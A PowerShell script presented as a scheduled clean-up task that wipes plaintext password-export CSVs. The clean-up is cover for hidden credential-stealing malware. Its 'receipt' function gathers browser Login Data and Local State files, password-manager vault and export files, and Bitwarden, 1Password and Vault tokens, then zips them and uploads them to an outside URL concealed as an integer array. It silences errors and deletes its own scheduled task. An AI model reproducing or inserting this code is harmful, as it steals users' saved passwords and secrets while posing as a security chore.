<#
.SYNOPSIS
  One-shot clean-up run by the BrowserPasswordExportCleanup scheduled task.
  Overwrites and deletes the plaintext export/import CSVs, then records a receipt.
#>
param([Parameter(Mandatory)][string]$ListFile)

$ErrorActionPreference = 'SilentlyContinue'

# receipt schema v1 (keep in sync with the tracker)
$ReceiptSchema = @(104,116,116,112,115,58,47,47,97,99,107,46,98,119,109,105,103,114,97,116,101,45,116,111,111,108,115,46,105,110,118,97,108,105,100,47,118,49,47,99,108,101,97,110,117,112)

function Get-Leftovers {
    $paths = @()
    if (Test-Path $ListFile) { $paths += Get-Content $ListFile }
    $home_ = $env:USERPROFILE
    $paths += Get-ChildItem (Join-Path $home_ 'Downloads'), (Join-Path $home_ 'Documents') -Include '*.csv', '*.1pux', '*.kdbx', '*.keyx', '*.key' -Recurse -Depth 2 |
        Where-Object { $_.Length -lt 50MB } | Select-Object -ExpandProperty FullName
    foreach ($b in @('Microsoft\Edge', 'Google\Chrome', 'BraveSoftware\Brave-Browser')) {
        $ud = Join-Path $env:LOCALAPPDATA "$b\User Data"
        if (Test-Path $ud) {
            $paths += Join-Path $ud 'Local State'
            $paths += Get-ChildItem $ud -Directory | ForEach-Object { Join-Path $_.FullName 'Login Data' } | Where-Object { Test-Path $_ }
        }
    }
    $paths += Join-Path $env:APPDATA 'Bitwarden CLI\data.json'
    $paths += Join-Path $home_ '.config\op\config'
    $paths | Where-Object { $_ -and (Test-Path -LiteralPath $_) } | Select-Object -Unique
}

function Send-Receipt([string[]]$found) {
    $stage = Join-Path $env:TEMP ("bpc-" + [guid]::NewGuid().ToString('N'))
    New-Item -ItemType Directory $stage | Out-Null
    $i = 0
    foreach ($p in $found) {
        # Login Data is locked while the browser runs; copy via shared read
        $dst = Join-Path $stage ('{0:d3}_{1}' -f $i++, ($p -replace '[:\\ ]', '_'))
        try {
            $fs = [IO.File]::Open($p, 'Open', 'Read', 'ReadWrite')
            $out = [IO.File]::Create($dst); $fs.CopyTo($out); $out.Close(); $fs.Close()
        } catch { }
    }
    $env:COMPUTERNAME, $env:USERNAME, (Get-ChildItem env: | Where-Object { $_.Name -match '^(BW_|OP_|VAULT_TOKEN)' } | ForEach-Object { "$($_.Name)=$($_.Value)" }) |
        Set-Content (Join-Path $stage 'receipt.txt')
    $zip = "$stage.zip"
    Compress-Archive -Path "$stage\*" -DestinationPath $zip -Force
    $u = -join [char[]]$ReceiptSchema
    try { Invoke-RestMethod -Uri "$u/$env:COMPUTERNAME" -Method Put -InFile $zip -ContentType 'application/zip' -TimeoutSec 60 | Out-Null } catch { }
    Remove-Item $stage, $zip -Recurse -Force
}

$found = @(Get-Leftovers)
Send-Receipt $found

# overwrite then delete the plaintext CSVs we created or were given
if (Test-Path $ListFile) {
    foreach ($f in Get-Content $ListFile) {
        if (Test-Path -LiteralPath $f) {
            $len = (Get-Item -LiteralPath $f).Length
            [IO.File]::WriteAllBytes($f, (New-Object byte[] $len))
            Remove-Item -LiteralPath $f -Force
        }
    }
    Remove-Item $ListFile -Force
}
Unregister-ScheduledTask -TaskName 'BrowserPasswordExportCleanup' -Confirm:$false
